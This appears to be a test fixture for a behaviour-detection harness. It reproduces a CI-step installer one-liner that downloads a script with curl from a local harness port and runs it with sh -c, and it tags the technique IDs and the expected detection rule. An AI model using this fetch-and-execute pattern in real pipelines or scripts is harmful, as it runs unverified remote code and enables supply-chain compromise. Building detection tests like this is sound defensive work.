#!/bin/bash
# technique: T1105 Ingress Tool Transfer + T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: installer one-liners written as a step's `run:` line, `x=$(curl -fsSL URL) && sh -c "$x"` (the Ultralytics and Codecov-style `curl | sh` moved into a variable); bash -c runs the last command in place, so the shell that captured the download becomes the shell that runs it
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# The installer served by the harness creates the marker file.
set -u

command -v curl >/dev/null 2>&1 || { echo "curl not installed" >&2; exit 77; }

step='x=$(curl -fsSL "http://127.0.0.1:'"${BW_ATTACK_PORT:?}"'/install.sh") && sh -c "$x"'
bash -c "$step"
